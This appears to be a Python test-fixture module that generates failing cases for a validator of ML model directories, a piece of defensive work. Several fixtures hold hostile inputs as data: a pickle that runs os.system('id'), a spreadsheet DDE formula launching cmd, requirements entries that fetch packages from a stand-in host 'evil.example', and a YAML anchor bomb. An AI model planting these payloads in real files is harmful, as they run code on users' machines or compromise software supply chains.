"""What is in the model's directory."""

from __future__ import annotations

import pickle
from pathlib import Path

from examples.make.graphs import graph
from examples.make.model import PLAIN
from examples.make.signing import PUBLIC
from examples.make.write import write
from sluicegate.specs.layout import MODEL_KEYS


def examples(bad: Path) -> None:
    """Write them below `bad`."""
    write(
        bad / "artifact-digests/other-bytes",
        verdict="fail",
        says="another digest",
        candidate={**PLAIN, "model.onnx": graph((0.1, 0.1, 0.1))},
    )
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"
    write(
        bad / "artifact-digests/lfs-pointer",
        verdict="fail",
        says="LFS pointer",
        candidate={**PLAIN, "model.onnx": pointer},
    )
    write(
        bad / "artifact-digests/missing",
        verdict="fail",
        says="is not there",
        candidate={name: data for name, data in PLAIN.items() if name != "evaluation.csv"},
    )

    write(
        bad / "model-signed/no-signature",
        verdict="fail",
        says="model.sig is not there",
        candidate=PLAIN,
        beside={MODEL_KEYS: PUBLIC},
    )
    write(
        bad / "known-vulnerabilities/too-many",
        verdict="inconclusive",
        says="1,001 packages are pinned, and 1,000 are asked about at most",
        candidate={**PLAIN, "requirements.txt": b"".join(b"package-%d==1.0\n" % n for n in range(1_001))},
    )
    write(
        bad / "requirements-pinned/no-version",
        verdict="inconclusive",
        says="requirements.txt:2 pins no version",
        candidate={**PLAIN, "requirements.txt": b"# of the training\nnumpy>=1.20\n"},
    )
    write(
        bad / "requirements-pinned/other-index",
        verdict="fail",
        says="requirements.txt:1 has an option, --extra-index-url",
        candidate={**PLAIN, "requirements.txt": b"--extra-index-url https://evil.example\nnumpy==2.1.0\n"},
    )
    write(
        bad / "requirements-pinned/address",
        verdict="fail",
        says="requirements.txt:1 has an address or a path",
        candidate={**PLAIN, "requirements.txt": b"numpy @ https://evil.example/numpy.whl\n"},
    )
    write(
        bad / "files-allowed/pickle",
        verdict="fail",
        says="weights.pkl is of a kind",
        candidate={**PLAIN, "weights.pkl": pickle.dumps([1.0], protocol=2)},
    )
    write(
        bad / "files-allowed/pickle-in-disguise",
        verdict="fail",
        says="a pickle, which runs code",
        candidate={**PLAIN, "notes.txt": pickle.dumps([1.0], protocol=4)},
    )
    write(
        bad / "files-allowed/text-pickle",
        verdict="fail",
        says="notes.json is a pickle, which runs code",
        candidate={**PLAIN, "notes.json": b"cos\nsystem\n(S'id'\ntR."},
    )
    write(
        bad / "files-allowed/formula",
        verdict="fail",
        says="rows.csv has a formula in line 2 that reaches out of a spreadsheet",
        candidate={**PLAIN, "rows.csv": b"a,b\n1,=cmd|' /C calc'!A0\n"},
    )
    laughs = b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"
    write(
        bad / "files-allowed/aliases",
        verdict="fail",
        says="notes.yaml is YAML that is not read here (line 1: an anchor is not allowed)",
        candidate={**PLAIN, "notes.yaml": laughs},
    )
    write(
        bad / "onnx-beside/opaque",
        verdict="fail",
        says="old.onnx: ",
        candidate={**PLAIN, "old.onnx": b"what nobody reads\n"},
    )
    write(
        bad / "files-allowed/no-json",
        verdict="fail",
        says="notes.json is not JSON",
        candidate={**PLAIN, "notes.json": b"{'a': 1}"},
    )
